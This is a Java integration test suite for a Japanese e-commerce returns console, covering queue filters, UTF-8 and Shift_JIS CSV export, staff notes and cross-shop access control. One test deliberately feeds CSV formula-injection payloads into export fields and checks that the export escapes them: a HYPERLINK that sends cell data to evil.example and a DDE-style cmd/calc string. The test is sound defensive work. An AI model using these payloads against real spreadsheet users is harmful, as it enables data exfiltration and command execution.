package com.kaeru.backend.returns;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import java.io.StringReader;
import java.net.URL;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.UUID;

import com.kaeru.backend.it.Deployments;
import com.kaeru.backend.it.Shops;
import com.kaeru.backend.it.Sql;
import com.kaeru.backend.it.TestTokens;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * What the staff console needs beyond the workflow: the queue's filters, the CSV export in UTF-8
 * and Shift_JIS, internal notes — and that none of it opens a door into another shop.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class ReturnsConsoleIT {
    private static final String SHOP = "sakura-apparel";
    private static final String STAFF = "/v1/shops/" + SHOP + "/returns";
    private static final ZoneId SHOP_ZONE = ZoneId.of("Asia/Tokyo");

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.builtApiWar();
    }

    @ArquillianResource
    URL base;

    private String run;

    @BeforeEach
    void catalog() {
        RestAssured.baseURI = base.toString().replace(base.getHost(), "localhost").replaceAll("/$", "");
        run = UUID.randomUUID().toString().substring(0, 6).toUpperCase();
        Shops.products(SHOP, """
                [{"externalId":"KNIT-%1$s","nameJa":"ニット〜秋冬","nameEn":"Knit","category":"tops",
                  "variants":[{"sku":"KNIT-%1$s-S","size":"S","priceMinor":6000},
                              {"sku":"KNIT-%1$s-M","size":"M","priceMinor":6000}]}]
                """.formatted(run));
        Shops.stock(SHOP, "KNIT-" + run + "-M", 5);
    }

    private static RequestSpecification staff(String user, String role) {
        return given().auth().oauth2(TestTokens.token(user, "/shops/" + SHOP + "/" + role)).contentType("application/json");
    }

    private static RequestSpecification kumoManager() {
        return given().auth().oauth2(TestTokens.token("kumo-manager", "/shops/kumo-zakka/manager"))
                .contentType("application/json");
    }

    /** An order by a customer whose name CP932 cannot fully hold (the emoji). */
    private void order(String number) {
        String body = """
                [{"externalId":"%1$s","orderNumber":"%1$s","channel":"OWN_SITE","customerName":"髙橋 花子🌸",
                  "customerEmail":"%2$s","orderedAt":"%3$s","shippedAt":"%3$s","deliveredAt":"%3$s",
                  "lines":[{"lineNo":1,"sku":"KNIT-%4$s-S","quantity":3,"unitPriceMinor":6000}]}]
                """.formatted(number, email(number), java.time.Instant.now().minusSeconds(3 * 86400), run);
        given().auth().oauth2(TestTokens.token("it-manager", "/shops/" + SHOP + "/manager")).contentType("application/json")
                .body(body).put("/v1/shops/" + SHOP + "/integration/orders").then().statusCode(200)
                .body("rejected", equalTo(0));
    }

    private static String email(String number) {
        return number.toLowerCase() + "@example.jp";
    }

    private static final String TOMORROW =
            java.time.LocalDate.now(java.time.ZoneId.of("Asia/Tokyo")).plusDays(1).toString();
    private static final String ADDRESS = """
            {"name":"山田 花子","postalCode":"150-0001","prefecture":"東京都","city":"渋谷区","line1":"神宮前1-2-3"}""";

    private String submit(String number, String method, String lineJson) {
        String token = Shops.customerToken(SHOP, number, email(number));
        Number line = given().header("X-Kaeru-Order-Token", token).get("/v1/portal/shops/" + SHOP + "/order").then()
                .statusCode(200).extract().path("lines[0].orderLineId");
        return given().header("X-Kaeru-Order-Token", token).contentType("application/json")
                .body("{\"returnMethod\":\"" + method + "\",\"pickupDate\":\"" + TOMORROW + "\",\"pickupSlot\":\"MORNING\","
                        + "\"dropOffPoint\":\"LAWSON\",\"address\":" + ADDRESS + ",\"lines\":["
                        + lineJson.replace("LINE", line.toString()) + "]}")
                .post("/v1/portal/shops/" + SHOP + "/returns").then().statusCode(200).extract().path("rmaNumber");
    }

    @Test
    void queueFiltersCombineReasonResolutionMethodAndShopDates() {
        String number = "FLT-" + run;
        order(number);
        String exchange = submit(number, "PICKUP", """
                {"orderLineId":LINE,"quantity":1,"reasonCode":"SIZE_TOO_SMALL","resolution":"EXCHANGE","exchangeSku":"KNIT-%s-M"}
                """.formatted(run));
        String refund = submit(number, "PREPAID_LABEL", """
                {"orderLineId":LINE,"quantity":1,"reasonCode":"DEFECTIVE","resolution":"REFUND","refundMethod":"STORE_CREDIT"}""");
        staff("sakura-operator", "operator").post(STAFF + "/" + refund + "/receive").then().statusCode(200);
        LocalDate today = LocalDate.now(SHOP_ZONE);
        var analyst = staff("sakura-analyst", "analyst").queryParam("q", number);

        // A parent reason stands for its children.
        analyst.get(STAFF + "?reason=SIZE").then().statusCode(200).body("items.rmaNumber", contains(exchange));
        staff("sakura-analyst", "analyst").get(STAFF + "?q=" + number + "&reason=DEFECTIVE").then()
                .body("items.rmaNumber", contains(refund));
        staff("sakura-analyst", "analyst").get(STAFF + "?q=" + number + "&resolution=exchange").then()
                .body("items.rmaNumber", contains(exchange)).body("total", equalTo(1));
        staff("sakura-analyst", "analyst").get(STAFF + "?q=" + number + "&method=PICKUP").then()
                .body("items.rmaNumber", contains(exchange));
        staff("sakura-analyst", "analyst").get(STAFF + "?q=" + number + "&status=RECEIVED,AWAITING_SHIPMENT").then()
                .body("items.rmaNumber", containsInAnyOrder(exchange, refund));
        staff("sakura-analyst", "analyst").get(STAFF + "?q=" + number + "&from=" + today + "&to=" + today).then()
                .body("total", equalTo(2));
        staff("sakura-analyst", "analyst").get(STAFF + "?q=" + number + "&from=" + today.plusDays(1)).then()
                .body("total", equalTo(0));
        // "Received today": the receipt date, not the request date.
        staff("sakura-analyst", "analyst").get(STAFF + "?q=" + number + "&dateField=RECEIVED&from=" + today
                + "&to=" + today).then().body("items.rmaNumber", contains(refund));

        staff("sakura-analyst", "analyst").header("Accept-Language", "ja").get(STAFF + "?resolution=MAYBE").then()
                .statusCode(422).contentType("application/problem+json").body("detail", equalTo(
                        "解決方法「MAYBE」は不明です（REFUND または EXCHANGE）。"));
        staff("sakura-analyst", "analyst").get(STAFF + "?from=2026-13-01").then().statusCode(422);
        staff("sakura-analyst", "analyst").get(STAFF + "?method=CARRIER_PIGEON").then().statusCode(422);
    }

    private String csvOrder() {
        String number = "CSV-" + run;
        order(number);
        submit(number, "PREPAID_LABEL", """
                {"orderLineId":LINE,"quantity":2,"reasonCode":"SIZE_TOO_LARGE","comment":"丈が長い〜","resolution":"REFUND","refundMethod":"STORE_CREDIT"}""");
        return number;
    }

    private static List<CSVRecord> records(byte[] body, Charset charset) throws Exception {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(new String(body, charset))).getRecords();
    }

    @Test
    void exportStreamsTheFilteredReturnsInUtf8() throws Exception {
        String number = csvOrder();
        Response response = staff("sakura-analyst", "analyst").header("Accept-Language", "ja")
                .get(STAFF + "/export?q=" + number + "&charset=UTF-8");
        response.then().statusCode(200).header("Content-Type", org.hamcrest.Matchers.matchesPattern("text/csv; ?charset=UTF-8"))
                .header("Content-Disposition", org.hamcrest.Matchers.startsWith("attachment; filename=\"returns-sakura-apparel-"));
        List<CSVRecord> rows = records(response.asByteArray(), StandardCharsets.UTF_8);
        assertThat(rows).hasSize(1);
        CSVRecord row = rows.get(0);
        assertThat(row.get("order_number")).isEqualTo(number);
        assertThat(row.get("customer_name")).isEqualTo("髙橋 花子🌸");
        assertThat(row.get("product_name")).isEqualTo("ニット〜秋冬");
        assertThat(row.get("reason")).isEqualTo("大きすぎる");
        assertThat(row.get("customer_comment")).isEqualTo("丈が長い〜");
        assertThat(row.get("quantity")).isEqualTo("2");
        assertThat(row.get("currency")).isEqualTo("JPY");
        assertThat(row.get("requested_at")).endsWith("+09:00");

        byte[] withBom = staff("sakura-manager", "manager").get(STAFF + "/export?q=" + number + "&bom=true").asByteArray();
        assertThat(withBom).startsWith(0xEF, 0xBB, 0xBF);
    }

    @Test
    void exportInShiftJisMapsWhatCp932CannotHoldSafely() throws Exception {
        String number = csvOrder();
        Response response = staff("sakura-analyst", "analyst").header("Accept-Language", "en")
                .get(STAFF + "/export?q=" + number + "&charset=Shift_JIS");
        response.then().statusCode(200).header("Content-Type", org.hamcrest.Matchers.matchesPattern("text/csv; ?charset=Shift_JIS"));
        byte[] body = response.asByteArray();
        // A strict decoder reads every byte: nothing broke the file.
        String strict = Charset.forName("windows-31j").newDecoder().decode(java.nio.ByteBuffer.wrap(body)).toString();
        assertThat(strict).contains(number);
        CSVRecord row = records(body, Charset.forName("windows-31j")).get(0);
        assertThat(row.get("customer_name")).isEqualTo("髙橋 花子?");
        // The JIS wave dash becomes CP932's full-width tilde instead of a question mark.
        assertThat(row.get("customer_comment")).isEqualTo("丈が長い～");
        assertThat(row.get("product_name")).isEqualTo("Knit");
        assertThat(row.get("reason")).isEqualTo("Too large");

        staff("sakura-analyst", "analyst").get(STAFF + "/export?charset=EBCDIC").then().statusCode(422)
                .contentType("application/problem+json");
        // Operators process returns; exporting the shop's data is for reports (analysts, managers).
        staff("sakura-operator", "operator").get(STAFF + "/export").then().statusCode(403)
                .contentType("application/problem+json");
    }

    /** Issue 8.3: what customers type must not run as a formula in the spreadsheet staff open. */
    @Test
    void exportShowsFormulasTypedByCustomersAsText() throws Exception {
        String number = "FORMULA-" + run;
        String body = """
                [{"externalId":"%1$s","orderNumber":"%1$s","channel":"OWN_SITE",
                  "customerName":"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")",
                  "customerEmail":"%2$s","orderedAt":"%3$s","shippedAt":"%3$s","deliveredAt":"%3$s",
                  "lines":[{"lineNo":1,"sku":"KNIT-%4$s-S","quantity":1,"unitPriceMinor":6000}]}]
                """.formatted(number, email(number), java.time.Instant.now().minusSeconds(86400), run);
        given().auth().oauth2(TestTokens.token("it-manager", "/shops/" + SHOP + "/manager")).contentType("application/json")
                .body(body).put("/v1/shops/" + SHOP + "/integration/orders").then().statusCode(200)
                .body("rejected", equalTo(0));
        submit(number, "PREPAID_LABEL", """
                {"orderLineId":LINE,"quantity":1,"reasonCode":"OTHER","comment":"@SUM(1+1)*cmd|'/C calc'!A0",
                 "resolution":"REFUND","refundMethod":"STORE_CREDIT"}""");
        for (String charset : List.of("UTF-8", "Shift_JIS")) {
            byte[] csv = staff("sakura-analyst", "analyst").get(STAFF + "/export?q=" + number + "&charset=" + charset)
                    .then().statusCode(200).extract().asByteArray();
            CSVRecord row = records(csv, Charset.forName(charset.equals("UTF-8") ? "UTF-8" : "windows-31j")).get(0);
            assertThat(row.get("customer_name")).as(charset)
                    .isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
            assertThat(row.get("customer_comment")).as(charset).isEqualTo("'@SUM(1+1)*cmd|'/C calc'!A0");
            assertThat(row.get("order_number")).as(charset).isEqualTo(number);
        }
    }

    @Test
    void notesAreWrittenByProcessorsReadByStaffAndAudited() {
        String number = "NOTE-" + run;
        order(number);
        String rma = submit(number, "PREPAID_LABEL", """
                {"orderLineId":LINE,"quantity":1,"reasonCode":"OTHER","resolution":"REFUND","refundMethod":"ORIGINAL_PAYMENT"}""");
        staff("sakura-operator", "operator").body("{\"text\":\"お客様から電話：本日発送済み\"}")
                .post(STAFF + "/" + rma + "/notes").then().statusCode(200)
                .body("author", equalTo("sakura-operator")).body("text", equalTo("お客様から電話：本日発送済み"));
        staff("sakura-analyst", "analyst").get(STAFF + "/" + rma + "/notes").then().statusCode(200)
                .body("text", contains("お客様から電話：本日発送済み"));
        staff("sakura-analyst", "analyst").body("{\"text\":\"x\"}").post(STAFF + "/" + rma + "/notes").then()
                .statusCode(403);
        staff("sakura-operator", "operator").body("{\"text\":\"  \"}").post(STAFF + "/" + rma + "/notes").then()
                .statusCode(400).body("errors.field", hasItem("text"));
        staff("sakura-operator", "operator").get(STAFF + "/" + rma).then()
                .body("timeline.action", hasItem("NOTE_ADDED"));
        // The customer never sees notes or who wrote them.
        String token = Shops.customerToken(SHOP, number, email(number));
        String portalView = given().header("X-Kaeru-Order-Token", token)
                .get("/v1/portal/shops/" + SHOP + "/returns/" + rma).then().statusCode(200).extract().asString();
        assertThat(portalView).doesNotContain("電話").doesNotContain("NOTE_ADDED");
    }

    @Test
    void anotherShopsStaffNeitherReadNorWriteNotesNorExportAnything() {
        String number = "ISO-" + run;
        order(number);
        String rma = submit(number, "PREPAID_LABEL", """
                {"orderLineId":LINE,"quantity":1,"reasonCode":"OTHER","resolution":"REFUND","refundMethod":"ORIGINAL_PAYMENT"}""");
        staff("sakura-operator", "operator").body("{\"text\":\"secret\"}").post(STAFF + "/" + rma + "/notes").then()
                .statusCode(200);

        kumoManager().get(STAFF + "/" + rma + "/notes").then().statusCode(403);
        kumoManager().body("{\"text\":\"intrusion\"}").post(STAFF + "/" + rma + "/notes").then().statusCode(403);
        kumoManager().get(STAFF + "/export?q=" + number).then().statusCode(403)
                .contentType("application/problem+json");
        kumoManager().get(STAFF + "?q=" + number + "&reason=OTHER").then().statusCode(403);
        // Through kumo's own doors the sakura return does not exist, and kumo's export holds none of it.
        kumoManager().get("/v1/shops/kumo-zakka/returns/" + rma + "/notes").then().statusCode(404);
        kumoManager().body("{\"text\":\"intrusion\"}").post("/v1/shops/kumo-zakka/returns/" + rma + "/notes").then()
                .statusCode(404);
        String kumoExport = kumoManager().get("/v1/shops/kumo-zakka/returns/export?q=" + number).then().statusCode(200)
                .extract().asString();
        assertThat(kumoExport.strip()).startsWith("rma_number,").doesNotContain(number).doesNotContain(rma);
        assertThat(Sql.number("select count(*) from return_note n join return_request r on r.id = n.return_id "
                + "where r.rma_number = ? and r.shop_id = n.shop_id and n.body = 'intrusion'", rma)).isZero();
        assertThat(Sql.number("select count(*) from return_note where body = 'intrusion'")).isZero();
    }

    private static RequestSpecification agencyAdmin() {
        return given().auth().oauth2(TestTokens.token("agency", "/agencies/demo-agency/admins"));
    }

    /** The shop's own queue total, asked by the agency admin (who has every role there). */
    private static long shopTotal(String shop, String query) {
        return ((Number) agencyAdmin().get("/v1/shops/" + shop + "/returns?size=1" + query).then().statusCode(200)
                .extract().path("total")).longValue();
    }

    @Test
    void agencyQueueHoldsEveryReturnOfTheAgencysShopsAndNoneOfAnotherShop() {
        Response all = agencyAdmin().get("/v1/agencies/demo-agency/returns?size=200").then().statusCode(200)
                .extract().response();
        List<String> shops = all.path("items.shopSlug");
        assertThat(shops).contains("sakura-apparel", "kumo-zakka").doesNotContain("umi-outdoor");
        assertThat(all.<List<String>>path("items.shopName")).contains("さくらアパレル", "くも雑貨店");
        assertThat(((Number) all.path("total")).longValue())
                .isEqualTo(shopTotal("sakura-apparel", "") + shopTotal("kumo-zakka", ""));
        // Newest first across the shops.
        List<String> created = all.path("items.returnSummary.createdAt");
        assertThat(created).isSortedAccordingTo(java.util.Comparator.comparing(java.time.Instant::parse).reversed());

        // RMA numbers are per shop: every demo shop has R-000001, umi-outdoor's never shows.
        assertThat(Sql.number("select count(*) from return_request r join shop s on s.id = r.shop_id "
                + "where s.slug = 'umi-outdoor' and r.rma_number = 'R-000001'")).isEqualTo(1);
        agencyAdmin().get("/v1/agencies/demo-agency/returns?q=R-000001").then().statusCode(200)
                .body("total", equalTo(2))
                .body("items.shopSlug", containsInAnyOrder("sakura-apparel", "kumo-zakka"))
                .body("items.returnSummary.rmaNumber", contains("R-000001", "R-000001"));
        // The shop queue's filters apply as they do per shop.
        agencyAdmin().get("/v1/agencies/demo-agency/returns?status=COMPLETED&size=200").then().statusCode(200)
                .body("total", equalTo((int) (shopTotal("sakura-apparel", "&status=COMPLETED")
                        + shopTotal("kumo-zakka", "&status=COMPLETED"))))
                .body("items.returnSummary.status", org.hamcrest.Matchers.everyItem(equalTo("COMPLETED")));
        // A reason, rare across the agency: its requests are taken from the lines' side, same answer.
        long defective = shopTotal("sakura-apparel", "&reason=DEFECTIVE") + shopTotal("kumo-zakka", "&reason=DEFECTIVE");
        assertThat(defective).isPositive();
        agencyAdmin().get("/v1/agencies/demo-agency/returns?reason=DEFECTIVE&size=200").then().statusCode(200)
                .body("total", equalTo((int) defective))
                .body("items.shopSlug", org.hamcrest.Matchers.everyItem(org.hamcrest.Matchers.oneOf("sakura-apparel",
                        "kumo-zakka")));
        agencyAdmin().get("/v1/agencies/demo-agency/returns?status=LOST").then().statusCode(422);
    }

    @Test
    void onlyTheAgencysAdminsGetTheAgencyQueue() {
        staff("sakura-manager", "manager").get("/v1/agencies/demo-agency/returns").then().statusCode(403)
                .contentType("application/problem+json");
        given().auth().oauth2(TestTokens.token("umi-manager", "/shops/umi-outdoor/manager"))
                .get("/v1/agencies/demo-agency/returns").then().statusCode(403);
        given().auth().oauth2(TestTokens.token("other-admin", "/agencies/other-agency/admins"))
                .get("/v1/agencies/demo-agency/returns").then().statusCode(403);
        given().get("/v1/agencies/demo-agency/returns").then().statusCode(401);
    }
}
